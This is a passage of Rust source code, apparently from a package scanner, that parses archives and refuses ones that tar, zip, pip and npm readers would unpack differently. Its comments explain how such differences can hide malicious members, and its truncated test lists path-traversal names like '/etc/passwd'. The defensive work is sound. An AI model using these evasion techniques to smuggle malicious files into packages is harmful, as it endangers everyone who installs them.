/// the archive's name without `.gz` or `.bz2` (`data.csv.gz/data.csv`).
fn read_stream<R: Read>(
    mut reader: R,
    budget: &mut Budget,
    c: &mut Collector,
    at: Within,
) -> Result<(), ArchiveError> {
    let mut head = Vec::with_capacity(512);
    reader
        .by_ref()
        .take(512)
        .read_to_end(&mut head)
        .map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
    let mut whole = Cursor::new(head).chain(reader);
    if is_tar_header(whole.get_ref().0.get_ref()) {
        return read_tar(whole, budget, c, at);
    }
    let name = at.prefix.rsplit('/').next().unwrap_or(at.prefix);
    let lower = name.to_ascii_lowercase();
    let inner = [".gz", ".bz2"]
        .iter()
        .find(|ext| lower.len() > ext.len() && lower.ends_with(*ext))
        .map(|ext| name[..name.len() - ext.len()].to_string())
        .unwrap_or_else(|| format!("{name}.decompressed"));
    let full = at.full(&inner);
    budget.add_member(&full)?;
    let data = budget.read_member(&full, &mut whole, 0)?;
    emit(c, budget, full, data, at.depth)
}

/// Reads an archive from memory.
pub fn read_archive(
    bytes: &[u8],
    format: ArchiveFormat,
    limits: &Limits,
) -> Result<Package, ArchiveError> {
    read_archive_with(bytes, format, limits, None)
}

/// As [`read_archive`]; with a sink, each regular file goes to it as soon as
/// it is read (in archive order), and the package comes back with its notes
/// only. Every check runs exactly as without one; on an error the sink has
/// seen some members, and the caller must discard what it made of them.
pub fn read_archive_with(
    bytes: &[u8],
    format: ArchiveFormat,
    limits: &Limits,
    sink: Option<MemberSink<'_>>,
) -> Result<Package, ArchiveError> {
    if format != ArchiveFormat::Zip && python_finds_zip(bytes) {
        return Err(ArchiveError::Ambiguous {
            member: "(zip end-of-central-directory record)".into(),
            why: format!(
                "this {} archive also ends as a zip: Python's zipfile finds an end-of-central-directory record in its last 64 KiB, and pip unpacks any file zipfile.is_zipfile accepts as a zip before it tries tar, so pip would install the zip's members while every tar reader (uv, Python's tarfile, Canary) sees the tar's",
                format.describe()
            ),
        });
    }
    let mut budget = Budget::new(limits, bytes.len() as u64);
    let mut c = Collector::new(sink);
    if format != ArchiveFormat::Zip {
        c.stripped = Some(Default::default());
    }
    let (b, at) = (&mut budget, Within::TOP);
    // Every member of a multi-member gzip (or bzip2) stream, as gzip(1) and
    // Python's tarfile read it: reading only the first let a payload in a
    // second member, appended with `cat`, pass unread.
    match format {
        ArchiveFormat::TarGz => read_tar(GzMembers::new(bytes), b, &mut c, at)?,
        ArchiveFormat::TarBz2 => read_tar(bzip2::read::MultiBzDecoder::new(bytes), b, &mut c, at)?,
        ArchiveFormat::Tar => read_tar(bytes, b, &mut c, at)?,
        ArchiveFormat::Zip => read_zip(bytes, b, &mut c, at)?,
    }
    c.note_nested(limits);
    Ok(c.package)
}

/// Every member of a gzip stream, as gzip(1) and Python's gzip module read
/// it: members one after another, and zero bytes after the last one taken
/// as padding (a tape or a fixed-size upload pads with them; both tools
/// skip them). Anything else after a member must be another member, or the
/// archive is refused: `flate2`'s `MultiGzDecoder` took the padding for a
/// bad header, so such a package was unreadable to Canary alone.
struct GzMembers<'a> {
    member: Option<flate2::bufread::GzDecoder<&'a [u8]>>,
}

impl<'a> GzMembers<'a> {
    fn new(bytes: &'a [u8]) -> GzMembers<'a> {
        GzMembers {
            member: Some(flate2::bufread::GzDecoder::new(bytes)),
        }
    }
}

impl Read for GzMembers<'_> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        while let Some(member) = &mut self.member {
            let n = member.read(buf)?;
            if n > 0 || buf.is_empty() {
                return Ok(n);
            }
            // This member is done; the decoder has consumed exactly its
            // bytes, trailer included.
            let rest = self.member.take().map_or(&[][..], |m| m.into_inner());
            if rest.iter().any(|&b| b != 0) {
                self.member = Some(flate2::bufread::GzDecoder::new(rest));
            }
        }
        Ok(0)
    }
}

/// The most a tar may hold between two members that is not member data:
/// headers, GNU long names and links, pax records, and the data of entries
/// that are skipped (devices, pipes). The tar reader gathers long names and
/// pax records into memory whole before it hands over the member they
/// describe, so without this bound a 600 MB "long name" inflated from 2.7 MB
/// took 3.7 GB of memory. Real archives need a few KB.
const TAR_METADATA_MAX: u64 = 1 << 20;

/// Why a member's name, link or size reads differently in Python's tarfile
/// than here, when it does. A pax record wins over a GNU long name that
/// came before it in Python, and the tar crate always takes the long name;
/// of two pax records with one keyword Python takes the last, the tar
/// crate the first. Either way pip would unpack another file than the one
/// judged.
fn ambiguous_names<R: Read>(entry: &mut tar::Entry<'_, R>) -> Option<String> {
    let pax: Vec<(Vec<u8>, Vec<u8>)> = match entry.pax_extensions() {
        Ok(Some(records)) => records
            .filter_map(Result::ok)
            .map(|r| (r.key_bytes().to_vec(), r.value_bytes().to_vec()))
            .collect(),
        _ => return None,
    };
    let mut seen: Vec<&[u8]> = Vec::new();
    for (key, value) in &pax {
        let key = key.as_slice();
        // Python's tarfile takes `GNU.sparse.name` as the member's path and
        // `GNU.sparse.size` as its size whether or not the data is sparse;
        // the tar crate ignores them all.
        if key.starts_with(b"GNU.sparse") {
            return Some(format!(
                "its pax header sets `{}`, which Python's tarfile applies (renaming or resizing the member) and the tar crate ignores",
                String::from_utf8_lossy(key)
            ));
        }
        if !matches!(key, b"path" | b"linkpath" | b"size") {
            continue;
        }
        let shown = String::from_utf8_lossy(key);
        if seen.contains(&key) {
            return Some(format!(
                "its pax header sets `{shown}` twice, and tar readers differ on which one counts"
            ));
        }
        seen.push(key);
        let read = match key {
            b"path" => Some(entry.path_bytes().into_owned()),
            b"linkpath" => entry.link_name_bytes().map(|l| l.into_owned()),
            _ => None,
        };
        if read.is_some_and(|r| r != *value) {
            return Some(format!(
                "its pax `{shown}` ({:?}) and its GNU long name differ, and tar readers differ on which one counts",
                String::from_utf8_lossy(value)
            ));
        }
    }
    None
}

/// A tar header's text field: its bytes before the first NUL.
fn up_to_nul(field: &[u8]) -> &[u8] {
    field.split(|&b| b == 0).next().unwrap_or(&[])
}

/// Why a member's declared data would be read as headers by Python's
/// tarfile, if it would. Python skips the data of regular files (and of
/// types it does not know) only; after a link, directory, device or fifo it
/// reads the next header where the data begins, while the tar crate (like
/// GNU tar and node-tar) skips `size` bytes. A link declaring data could
/// hide a whole member, `setup.py` included, from every reader but pip.
fn data_python_does_not_skip<R: Read>(
    entry: &tar::Entry<'_, R>,
    typeflag: u8,
    raw_path: &[u8],
) -> Option<String> {
    let size = entry.size();
    if size == 0 {
        return None;
    }
    let header_name = up_to_nul(&entry.header().as_old().name);
    // Python's tarfile reads an old-style regular file named `x/` as a
    // directory.
    let old_style_dir = typeflag == 0 && (header_name.ends_with(b"/") || raw_path.ends_with(b"/"));
    let what = match typeflag {
        b'1' => "hard link",
        b'2' => "symbolic link",
        b'3' => "character device",
        b'4' => "block device",
        b'5' => "directory",
        b'6' => "fifo",
        _ if old_style_dir => "directory (an old-style file entry named with a trailing `/`)",
        _ => return None,
    };
    Some(format!(
        "a {what} entry declaring {size} bytes of data, which Python's tarfile reads as the next headers and other readers skip"
    ))
}

/// Why npm's tar (node-tar) would read an entry otherwise than Python's
/// tarfile and the tar crate, if it would. It takes an `N` entry (old GNU
/// long path) as the next member's name, and it skips as invalid a header
/// that is not a link but names a link target, or has no name, reading
/// that entry's data as headers: a hidden member npm unpacks and no other
/// reader sees. None of 142,491 members of the sdists, npm tarballs and
/// fixtures is either. Checked with npm's tar 7.5.22.
fn npm_skips_or_renames<R: Read>(
    entry: &tar::Entry<'_, R>,
    typeflag: u8,
    raw_path: &[u8],
) -> Option<String> {
    if typeflag == b'N' {
        return Some(
            "an `N` (old GNU long path) entry, whose data npm's tar takes as the next member's name and other readers as a file".into(),
        );
    }
    let kind = entry.header().entry_type();
    let link = entry.link_name_bytes().unwrap_or_default();
    let is_link = kind.is_symlink() || kind.is_hard_link();
    if !is_link && !link.is_empty() {
        return Some(format!(
            "a {kind:?} entry that names a link target ({:?}), which npm's tar skips as invalid, reading its data as headers",
            String::from_utf8_lossy(&link)
        ));
    }
    if raw_path.is_empty() && entry.size() > 0 {
        return Some(format!(
            "an entry without a name declaring {} bytes, which npm's tar skips as invalid, reading its data as headers",
            entry.size()
        ));
    }
    None
}

/// Why Python's tarfile would put a member in another folder, if it would:
/// it joins the ustar `prefix` field to the name in any header (but GNU
/// long-name and sparse ones), where the tar crate reads the field only in
/// a ustar header. In a GNU or old-style header those bytes should be zero
/// (none of 85,308 headers in 172 real sdists had any).
fn prefix_only_python_reads<R: Read>(
    entry: &tar::Entry<'_, R>,
    typeflag: u8,
    raw_path: &[u8],
) -> Option<String> {
    let h = entry.header();
    if h.as_ustar().is_some() || matches!(typeflag, b'L' | b'K' | b'S') {
        return None;
    }
    let prefix = up_to_nul(&h.as_bytes()[345..500]);
    let name = up_to_nul(&h.as_old().name);
    // A long name or pax path replaces the joined name in both readers.
    if prefix.is_empty() || raw_path != name {
        return None;
    }
    Some(format!(
        "its header holds the path prefix {:?} outside a ustar header, which Python's tarfile joins to the name and the tar crate ignores",
        String::from_utf8_lossy(prefix)
    ))
}

/// Pax keywords a global header must not set: they change which file a
/// member is, where it leads, or where its data ends.
const GLOBAL_PAX_REFUSED: &[&str] = &["path", "linkpath", "size"];

/// The keywords of pax records (`LEN KEY=VALUE\n` each); a record that does
/// not parse ends the list.
fn pax_keys(records: &[u8]) -> Vec<String> {
    let mut keys = Vec::new();
    let mut rest = records;
    while !rest.is_empty() {
        let Some(space) = rest.iter().position(|&b| b == b' ') else {
            break;
        };
        let Some(len) = std::str::from_utf8(&rest[..space])
            .ok()
            .and_then(|l| l.parse::<usize>().ok())
            .filter(|&l| l > space && l <= rest.len())
        else {
            break;
        };
        let record = &rest[space + 1..len];
        if let Some(eq) = record.iter().position(|&b| b == b'=') {
            keys.push(String::from_utf8_lossy(&record[..eq]).into_owned());
        }
        rest = &rest[len..];
    }
    keys
}

/// The decompressed tar stream, metered: reading stops at `cap` bytes in
/// all. Member data is bounded by the budget; the cap bounds what the tar
/// reader reads on its own between members (see [`TAR_METADATA_MAX`]).
struct Metered<R> {
    inner: R,
    pulled: std::rc::Rc<std::cell::Cell<u64>>,
    cap: std::rc::Rc<std::cell::Cell<u64>>,
}

const METER_STOP: &str = "canary: tar metadata over its cap";

impl<R: Read> Read for Metered<R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let left = self.cap.get().saturating_sub(self.pulled.get());
        if left == 0 && !buf.is_empty() {
            return Err(std::io::Error::other(METER_STOP));
        }
        let want = buf.len().min(usize::try_from(left).unwrap_or(usize::MAX));
        let n = self.inner.read(&mut buf[..want])?;
        self.pulled.set(self.pulled.get() + n as u64);
        Ok(n)
    }
}

fn read_tar<R: Read>(
    reader: R,
    budget: &mut Budget,
    c: &mut Collector,
    at: Within,
) -> Result<(), ArchiveError> {
    let pulled = std::rc::Rc::new(std::cell::Cell::new(0u64));
    let cap = std::rc::Rc::new(std::cell::Cell::new(TAR_METADATA_MAX));
    let mut archive = tar::Archive::new(Metered {
        inner: reader,
        pulled: pulled.clone(),
        cap: cap.clone(),
    });
    let metadata_cap = |after: &str| {
        ArchiveError::Corrupt(format!(
            "more than {TAR_METADATA_MAX} bytes of tar headers, long names, pax records or skipped entry data {after}; real archives hold a few KB (a decompression bomb in the headers)"
        ))
    };
    let corrupt = |e: std::io::Error, after: &str| {
        if e.to_string().contains(METER_STOP) {
            metadata_cap(after)
        } else {
            ArchiveError::Corrupt(e.to_string())
        }
    };
    let mut entries = archive.entries().map_err(|e| corrupt(e, "at the start"))?;
    let mut last = String::new();
    // Where the entry after the last one seen here begins: an entry that
    // begins later had long names or pax headers before it, which the tar
    // crate read and applied to it.
    let mut expected_at = 0u64;
    loop {
        // What the reader reads on its own before the next member is metered.
        cap.set(pulled.get().saturating_add(TAR_METADATA_MAX));
        let Some(entry) = entries.next() else {
            break;
        };
        let after = if last.is_empty() {
            "at the start".to_string()
        } else {
            format!("after {last:?}")
        };
        let mut entry = entry.map_err(|e| corrupt(e, &after))?;
        let raw_path = entry.path_bytes().into_owned();
        let name = at.full(&String::from_utf8_lossy(&raw_path));
        budget.add_member(&name)?;
        let kind = entry.header().entry_type();
        let header_at = entry.raw_header_position();
        let described = header_at != expected_at;
        expected_at = header_at
            .saturating_add(512)
            .saturating_add(entry.size().div_ceil(512).saturating_mul(512));
        if kind.is_pax_global_extensions() && described {
            // A long name or pax header right before a global header: the
            // tar crate spends it on the global header, Python's tarfile
            // passes it through to the member after it (a GNU long name
            // `setup.py`, then a harmless global header, renames the
            // document that follows).
            return Err(ArchiveError::Ambiguous {
                member: name,
                why: "a long name or pax header comes right before a pax global header, which Python's tarfile applies to the member after the global header and the tar crate to the global header itself".into(),
            });
        }
        if kind.is_pax_global_extensions() {
            // Python's tarfile applies a global header's records to every
            // member after it; the tar crate (like most readers) ignores
            // them. One that renames members or moves their data would show
            // this scan other files than pip unpacks (`path=pkg/setup.py`
            // makes every later member setup.py, the last one winning).
            // `git archive` writes one with a `comment`, which is harmless.
            let mut records = Vec::new();
            entry
                .read_to_end(&mut records)
                .map_err(|e| corrupt(e, &after))?;
            if let Some(key) = pax_keys(&records).into_iter().find(|k| {
                GLOBAL_PAX_REFUSED
                    .iter()
                    .any(|r| k == r || k.starts_with("GNU.sparse"))
            }) {
                return Err(ArchiveError::Ambiguous {
                    member: name,
                    why: format!(
                        "a pax global header sets `{key}` for every member after it, which Python's tarfile applies and most other readers ignore"
                    ),
                });
            }
            continue;
        }
        // The tar crate applies long names and pax records only from a
        // ustar or GNU header, and a Solaris `X` header never; Python's
        // tarfile applies all of them whatever the header, so the next
        // member would be unpacked under another name than it is read.
        // (The ones the tar crate applied never reach this loop.)
        let typeflag = entry.header().as_bytes()[156];
        if kind.is_pax_local_extensions()
            || kind.is_gnu_longname()
            || kind.is_gnu_longlink()
            || typeflag == b'X'
        {
            return Err(ArchiveError::Ambiguous {
                member: name,
                why: format!(
                    "{}, which Python's tarfile applies to the next member and the tar crate does not",
                    if typeflag == b'X' {
                        "a Solaris pax header (type `X`)"
                    } else if kind.is_pax_local_extensions() {
                        "a pax header in an old-style tar header"
                    } else {
                        "a GNU long name in an old-style tar header"
                    }
                ),
            });
        }
        // Each reason readers would see this member otherwise; the first
        // found refuses the archive.
        let why = ambiguous_names(&mut entry)
            .or_else(|| npm_skips_or_renames(&entry, typeflag, &raw_path))
            .or_else(|| prefix_only_python_reads(&entry, typeflag, &raw_path))
            .or_else(|| data_python_does_not_skip(&entry, typeflag, &raw_path));
        if let Some(why) = why {
            return Err(ArchiveError::Ambiguous { member: name, why });
        }
        let path = member_path(&raw_path, at, c)?;
        if kind.is_dir() {
            match c.through_link(&at.full(&format!("{path}/x"))) {
                Some(link) if at.depth == 0 => {
                    return Err(ArchiveError::ThroughLink { member: name, link })
                }
                _ => {}
            }
            continue;
        }
        if kind.is_symlink() || kind.is_hard_link() {
            let target = entry
                .link_name_bytes()
                .map(|b| String::from_utf8_lossy(&b).into_owned())
                .unwrap_or_default();
            if target.contains('\0') {
                return Err(ArchiveError::Escape {
                    member: name,
                    why: "NUL byte in the link target".into(),
                });
            }
            c.link(&path, at, &target, kind.is_hard_link())?;
            continue;
        }
        // Devices and pipes hold no content. Every other entry is a file:
        // regular, contiguous and sparse ones, and types tar readers do not
        // know, which Python's tarfile (and so pip) unpacks as regular files
        // with their data; skipping them let a `setup.py` of an unknown type
        // run unread.
        if kind.is_character_special() || kind.is_block_special() || kind.is_fifo() {
            c.package.notes.push(format!(
                "{}: not a regular file ({kind:?}), skipped",
                at.full(&path)
            ));
            continue;
        }
        if !(kind.is_file()
            || kind == tar::EntryType::Continuous
            || kind == tar::EntryType::GNUSparse)
        {
            c.package.notes.push(format!(
                "{}: tar entry type {:?} is not one tar readers know; read as a regular file, as Python's tarfile unpacks it",
                at.full(&path),
                char::from(kind.as_byte())
            ));
        }
        if path.is_empty() {
            continue;
        }
        let path = at.full(&path);
        let declared = entry.size();
        // Member data is the budget's to bound.
        cap.set(u64::MAX);
        let data = if at.depth == 0 {
            budget.read_member(&path, &mut entry, declared)?
        } else {
            budget.read_inner_member(&path, &mut entry, None, declared, None, true)?
        };
        last.clone_from(&path);
        emit(c, budget, path, data, at.depth)?;
    }
    // Python's tarfile and the tar crate end the archive at its first zero
    // block; npm's node-tar reads on unless a second one follows, skipping
    // blocks that are not headers, so a member placed after a single zero
    // block is unpacked by npm and read by no one else. What follows the
    // end must be zeros (real archives pad with them; all 224 tars of the
    // sdist lists and fixtures do).
    cap.set(pulled.get().saturating_add(TAR_METADATA_MAX));
    let mut rest = archive.into_inner();
    let mut buf = [0u8; 8192];
    let mut after = 0u64;
    loop {
        let n = match rest.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => n,
            // Past the cap only zeros were seen: stop reading them.
            Err(e) if e.to_string().contains(METER_STOP) => break,
            Err(e) => return Err(corrupt(e, "after the end of the archive")),
        };
        if let Some(i) = buf[..n].iter().position(|&b| b != 0) {
            return Err(ArchiveError::Ambiguous {
                member: at.full("(end of archive)"),
                why: format!(
                    "data follows the zero block that ends the archive for Python's tarfile and the tar crate (a non-zero byte {} bytes after it); npm's tar reads on past a single zero block, so it can unpack members no one else reads",
                    after + i as u64
                ),
            });
        }
        after += n as u64;
    }
    Ok(())
}

/// A member's path in the archive being read. At the top, one that escapes
/// the root blocks the package: it attacks whoever unpacks it. Inside an
/// inner archive it attacks only whoever unpacks *that* archive, which
/// installing the package does not do by itself, and packages ship such
/// archives as test fixtures (Django's `traversal_archives`); there it is
/// noted, and the member is read under its raw name, so its content is
/// still judged.
fn member_path(raw: &[u8], at: Within, c: &mut Collector) -> Result<String, ArchiveError> {
    match check_member_path(raw) {
        Err(ArchiveError::Escape { member, why }) if at.depth > 0 => {
            let raw = member.replace('\0', "\\0");
            let path = raw.trim_start_matches(['/', '\\']).to_string();
            c.package.notes.push(format!(
                "{}: member {member:?} of an archive inside the package escapes that archive's root ({why}); read as {:?}",
                at.prefix,
                at.full(&path)
            ));
            Ok(path)
        }
        Err(ArchiveError::ControlInPath { member }) if at.depth > 0 => {
            let path = check_member_path(escape_controls(&member).as_bytes())?;
            c.package.notes.push(format!(
                "{}: member {member:?} of an archive inside the package has a control character in its path; read as {:?}",
                at.prefix,
                at.full(&path)
            ));
            Ok(path)
        }
        other => other,
    }
}

/// Where Python's zipfile finds a zip's central directory, and the file
/// names it lists there, in order. Python takes the last end record in the
/// file's final 64 KiB (no other check), puts the directory right before it
/// (or before its zip64 records), reads as many entries as the directory's
/// byte size holds (not its entry count), and shifts every offset by the
/// data found before the directory's declared start.
#[derive(Debug, PartialEq, Eq)]
struct PythonZipView {
    start_dir: u64,
    concat: u64,
    names: Vec<Vec<u8>>,
}

fn le16(b: &[u8], at: usize) -> u64 {
    u64::from(u16::from_le_bytes([b[at], b[at + 1]]))
}

fn le32(b: &[u8], at: usize) -> u64 {
    u64::from(u32::from_le_bytes(
        b[at..at + 4].try_into().unwrap_or([0; 4]),
    ))
}

fn le64(b: &[u8], at: usize) -> u64 {
    u64::from_le_bytes(b[at..at + 8].try_into().unwrap_or([0; 8]))
}

/// [`PythonZipView`] of `bytes`, or why Python's zipfile would refuse them.
fn python_zip_view(bytes: &[u8]) -> Result<PythonZipView, String> {
    const EOCD: &[u8] = b"PK\x05\x06";
    let len = bytes.len();
    if len < 22 {
        return Err("too short for an end record".into());
    }
    let eocd = if bytes[len - 22..].starts_with(EOCD) && bytes[len - 2..] == [0, 0] {
        len - 22
    } else {
        let from = len.saturating_sub((1 << 16) + 22);
        let at = memchr::memmem::rfind(&bytes[from..], EOCD)
            .ok_or("no end record in the last 64 KiB")?;
        if from + at + 22 > len {
            return Err("end record cut short".into());
        }
        from + at
    };
    let rec = &bytes[eocd..eocd + 22];
    let (mut size_cd, mut offset_cd) = (le32(rec, 12), le32(rec, 16));
    let mut location = eocd as u64;
    // Python assumes the zip64 end record sits right before its locator.
    if eocd >= 20 + 56 && bytes[eocd - 20..].starts_with(b"PK\x06\x07") {
        let z = &bytes[eocd - 76..eocd - 20];
        if z.starts_with(b"PK\x06\x06") {
            size_cd = le64(z, 40);
            offset_cd = le64(z, 48);
            location -= 76;
        }
    }
    let start_dir = location
        .checked_sub(size_cd)
        .ok_or("central directory larger than the bytes before it")?;
    let concat = start_dir
        .checked_sub(offset_cd)
        .ok_or("central directory offset past its place")?;
    let dir = &bytes[start_dir as usize..location as usize];
    let mut names = Vec::new();
    let mut at = 0usize;
    while at < dir.len() {
        let h = dir
            .get(at..at + 46)
            .filter(|h| h.starts_with(b"PK\x01\x02"))
            .ok_or("central directory entry truncated or without its signature")?;
        let (n, m, k) = (
            le16(h, 28) as usize,
            le16(h, 30) as usize,
            le16(h, 32) as usize,
        );
        let name = dir
            .get(at + 46..at + 46 + n)
            .ok_or("central directory entry truncated")?;
        names.push(name.to_vec());
        at += 46 + n + m + k;
    }
    Ok(PythonZipView {
        start_dir,
        concat,
        names,
    })
}

/// Checks that a zip shows every reader the same files: Python's zipfile
/// (pip, zipimport) the same directory as the zip crate, and a streaming
/// reader, which walks the local headers, the same names, methods and
/// sizes, and no local header the directory does not list.
fn check_zip_agrees(
    bytes: &[u8],
    zip: &mut zip::ZipArchive<Cursor<&[u8]>>,
) -> Result<(), ArchiveError> {
    let refuse = |member: &str, why: String| ArchiveError::Ambiguous {
        member: member.to_string(),
        why,
    };
    let py = python_zip_view(bytes).map_err(|why| {
        refuse(
            "(central directory)",
            format!("Python's zipfile would not read this zip as the zip crate does ({why})"),
        )
    })?;
    if py.start_dir != zip.central_directory_start() || py.concat != zip.offset() {
        return Err(refuse(
            "(central directory)",
            format!(
                "Python's zipfile reads the central directory at byte {} (offsets shifted by {}), the zip crate at byte {} (shifted by {})",
                py.start_dir,
                py.concat,
                zip.central_directory_start(),
                zip.offset()
            ),
        ));
    }
    if py.names.len() != zip.len() {
        return Err(refuse(
            "(central directory)",
            format!(
                "Python's zipfile lists {} entries, the zip crate {} (the directory's size and entry count disagree)",
                py.names.len(),
                zip.len()
            ),
        ));
    }
    let mut spans = Vec::with_capacity(zip.len());
    for (i, py_name) in py.names.iter().enumerate() {
        let f = zip
            .by_index_raw(i)
            .map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
        let name = String::from_utf8_lossy(f.name_raw()).into_owned();
        // The zip crate takes an Info-ZIP Unicode Path field (0x7075) over
        // the header's name; Python 3.11 ignores it (newer Pythons read it),
        // so Pythons themselves differ on such an entry's name.
        if f.name_raw() != py_name.as_slice() {
            return Err(refuse(
                &name,
                format!(
                    "Python's zipfile names entry {i} {:?} (the header's name; a Unicode Path extra field names it otherwise, and readers differ on which counts)",
                    String::from_utf8_lossy(py_name)
                ),
            ));
        }
        let start = f.header_start() as usize;
        let local = bytes
            .get(start..start + 30)
            .filter(|h| h.starts_with(b"PK\x03\x04"))
            .ok_or_else(|| {
                ArchiveError::Corrupt(format!(
                    "entry {name:?}: no local header where the directory points"
                ))
            })?;
        let (n, m) = (le16(local, 26) as usize, le16(local, 28) as usize);
        let local_name = bytes.get(start + 30..start + 30 + n).unwrap_or(&[]);
        if local_name != f.name_raw() {
            return Err(refuse(&name, format!(
                "its local header names it {:?}; a reader that walks the local headers would unpack another file",
                String::from_utf8_lossy(local_name)
            )));
        }
        let cd_start = f.central_header_start() as usize;
        let method = bytes
            .get(cd_start..cd_start + 46)
            .map_or(u64::MAX, |h| le16(h, 10));
        if le16(local, 8) != method {
            return Err(refuse(
                &name,
                format!(
                    "its local header says compression method {}, the central directory {method}",
                    le16(local, 8)
                ),
            ));
        }
        // Without a data descriptor (flag bit 3) the local header carries
        // the sizes a streaming reader trusts; 0xFFFFFFFF defers to zip64.
        let (crc, csize, usize_) = (le32(local, 14), le32(local, 18), le32(local, 22));
        if le16(local, 6) & 8 == 0
            && csize != 0xFFFF_FFFF
            && usize_ != 0xFFFF_FFFF
            && (crc != u64::from(f.crc32()) || csize != f.compressed_size() || usize_ != f.size())
        {
            return Err(refuse(&name, format!(
                "its local header declares {csize} compressed / {usize_} bytes (crc32 {crc:08x}), the central directory {} / {} (crc32 {:08x})",
                f.compressed_size(),
                f.size(),
                f.crc32()
            )));
        }
        let end = (start + 30 + n + m) as u64 + f.compressed_size();
        spans.push((start as u64, end));
    }
    // A local header outside every listed entry's span is a file only a
    // streaming reader unpacks.
    spans.sort_unstable();
    let mut from = 0u64;
    let dir = zip.central_directory_start();
    for &(start, end) in spans.iter().chain(std::iter::once(&(dir, dir))) {
        if start > from {
            let gap = &bytes[from as usize..(start.min(dir)) as usize];
            if let Some(at) = memchr::memmem::find(gap, b"PK\x03\x04") {
                return Err(refuse(
                    "(local headers)",
                    format!(
                        "a local file header at byte {} belongs to no entry of the central directory; a reader that walks the local headers would unpack a file the directory does not list",
                        from as usize + at
                    ),
                ));
            }
        }
        from = from.max(end);
    }
    Ok(())
}

fn read_zip(
    bytes: &[u8],
    budget: &mut Budget,
    c: &mut Collector,
    at: Within,
) -> Result<(), ArchiveError> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes))
        .map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
    check_zip_agrees(bytes, &mut zip)?;
    if zip.len() as u64 > budget.limits.max_members {
        return Err(ArchiveError::Limit {
            what: format!(
                "{} members, more than {}",
                zip.len(),
                budget.limits.max_members
            ),
            key: "max-members",
            limit: budget.limits.max_members,
        });
    }
    for i in 0..zip.len() {
        let mut f = zip
            .by_index(i)
            .map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
        let raw = f.name_raw().to_vec();
        let name = at.full(&String::from_utf8_lossy(&raw));
        budget.add_member(&name)?;
        let path = member_path(&raw, at, c)?;
        // A directory is a name ending in `/` to Python's zipfile and pip's
        // wheel installer; the zip crate also takes one ending in `\`,
        // which Python writes as a file holding its data, so that data is
        // read (under the name with the `\` as a separator).
        if raw.ends_with(b"/") || (f.is_dir() && f.size() == 0) || path.is_empty() {
            continue;
        }
        let marked_link = f.is_symlink();
        let in_archive = path;
        let path = at.full(&in_archive);
        // An inner archive's binary is not read past its probe, so its
        // declared size says nothing about memory; its text is capped as read.
        if at.depth == 0 && f.size() > budget.limits.max_member_bytes {
            return Err(ArchiveError::Limit {
                what: format!(
                    "member {path:?} declares {} bytes, more than {}",
                    f.size(),
                    budget.limits.max_member_bytes
                ),
                key: "max-member-bytes",
                limit: budget.limits.max_member_bytes,
            });
        }
        let compressed = f.compressed_size();
        let declared = f.size();
        let data = if at.depth == 0 {
            budget.read_member_capped(&path, &mut f, Some(compressed), declared)?
        } else {
            let crc = f.crc32();
            budget.read_inner_member(&path, &mut f, Some(compressed), declared, Some(crc), false)?
        };
        drop(f);
        if marked_link {
            // Python's zipfile makes no links: pip (wheels and sdists alike)
            // and zipimport take the entry as a file holding these bytes, so
            // they are judged as that file; reading them only as a link's
            // target let a stealer marked as a link in a wheel be allowed.
            // Tools that do make links (Info-ZIP's unzip) read the bytes as
            // a path, and when they can be one the link rules hold as well.
            let target = String::from_utf8_lossy(&data).into_owned();
            if data.len() <= 4096 && !target.contains(['\n', '\0']) {
                c.link(&in_archive, at, &target, false)?;
            }
            c.package.notes.push(format!(
                "{path}: a zip entry marked as a symbolic link; Python's zipfile (pip, zipimport) unpacks it as a regular file holding those bytes, and it is read as one"
            ));
        }
        emit(c, budget, path, data, at.depth)?;
    }
    Ok(())
}

/// Reads an unpacked package directory. Links are noted, never followed; a
/// link whose target lies outside the folder blocks, since a build from the
/// folder would read what it reaches and the scan never did.
pub fn read_dir(root: &Path, limits: &Limits) -> Result<Package, ArchiveError> {
    let mut budget = Budget::new(limits, u64::MAX / 2);
    let mut c = Collector::new(None);
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        // An entry the listing cannot read fails the folder: skipped, it
        // would leave a file unread in a package judged as if whole.
        let mut entries = std::fs::read_dir(&dir)
            .and_then(|list| list.collect::<Result<Vec<_>, _>>())
            .map_err(|e| ArchiveError::Io(format!("{}: {e}", dir.display())))?;
        entries.sort_by_key(|e| e.file_name());
        for e in entries {
            let p = e.path();
            let rel = p
                .strip_prefix(root)
                .unwrap_or(&p)
                .to_string_lossy()
                .replace('\\', "/");
            if has_control(&rel) {
                return Err(ArchiveError::ControlInPath { member: rel });
            }
            budget.add_member(&rel)?;
            let ft = e
                .file_type()
                .map_err(|err| ArchiveError::Io(format!("{rel}: {err}")))?;
            if ft.is_symlink() {
                let target = std::fs::read_link(&p)
                    .map(|t| t.to_string_lossy().into_owned())
                    .map_err(|err| ArchiveError::Io(format!("{rel}: {err}")))?;
                let Some(to) = resolve_link(&rel, &target) else {
                    return Err(ArchiveError::LinkOutside {
                        member: rel,
                        target,
                    });
                };
                c.package
                    .notes
                    .push(format!("symlink {rel} -> {target} not followed"));
                c.package.links.push((rel, to));
            } else if ft.is_dir() {
                stack.push(p);
            } else if ft.is_file() {
                // Opened as a regular file only: one swapped for a link or
                // a pipe after it was listed is neither followed nor
                // waited on, and the folder is refused.
                let mut f = crate::util::open_regular_file(&p).map_err(|err| {
                    ArchiveError::Io(format!("{rel}: cannot be opened as a regular file: {err}"))
                })?;
                let declared = f.metadata().map(|m| m.len()).unwrap_or(0);
                let data = budget.read_member(&rel, &mut f, declared)?;
                emit(&mut c, &mut budget, rel, data, 0)?;
            } else {
                c.package
                    .notes
                    .push(format!("{rel}: not a regular file, skipped"));
            }
        }
    }
    c.note_nested(limits);
    Ok(c.package)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn member_paths() {
        assert_eq!(
            check_member_path(b"pkg-1.0/./setup.py").unwrap(),
            "pkg-1.0/setup.py"
        );
        for bad in [
            &b"../evil"[..],
            b"/etc/passwd",
            b"a/../../b",
            b"a\0b",
            b"C:\\x",
            b"a\\..\\..\\b",
        ] {
            assert!(
